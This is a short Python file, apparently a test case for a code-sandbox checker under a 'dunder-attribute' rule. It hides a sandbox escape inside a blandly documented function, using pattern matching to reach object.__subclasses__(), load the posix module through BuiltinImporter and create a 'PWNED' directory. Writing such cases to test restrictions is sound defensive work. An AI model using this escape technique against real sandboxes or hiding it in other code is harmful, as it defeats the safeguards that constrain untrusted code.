# rule: dunder-attribute
# class: attr_subclasses
# success: file PWNED
def subclasses_by_pattern(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    match times:
        case object(__class__=kind):
            match kind:
                case object(__base__=base):
                    found = [one for one in base.__subclasses__() if one.__name__ == "BuiltinImporter"]
                    found[0].load_module("posix").mkdir("PWNED")
    return times
